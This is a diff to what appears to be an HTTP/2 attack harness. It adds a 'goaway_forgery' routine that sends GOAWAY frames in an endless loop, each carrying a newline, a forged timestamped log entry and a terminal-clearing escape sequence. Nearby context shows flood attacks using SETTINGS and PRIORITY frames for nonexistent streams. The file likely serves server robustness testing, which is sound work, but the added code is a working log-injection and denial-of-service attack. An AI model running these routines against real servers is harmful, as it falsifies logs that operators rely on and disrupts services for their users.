@@ -195,6 +195,18 @@ def settings_flood(path: Path) -> Steps:
 
 
 @attack
+def goaway_forgery(path: Path) -> Steps:
+    """Farewells with words that would forge a line of a log, and clear the terminal that shows it."""
+    words = b"\n2026-01-01T00:00:00.000Z INFO handler_service: forged\x1b[2J"
+    connection = None
+    while True:
+        connection = again(path, connection)
+        connection.send(http2.frame(http2.GOAWAY, payload=struct.pack(">II", 0, 2) + words))
+        connection.drain()
+        yield 1
+
+
+@attack
 def priority_flood(path: Path) -> Steps:
     """PRIORITY of streams that are not there."""
     frames = [http2.frame(http2.PRIORITY, 0, number, bytes(5)) for number in range(3, 2003, 2)]
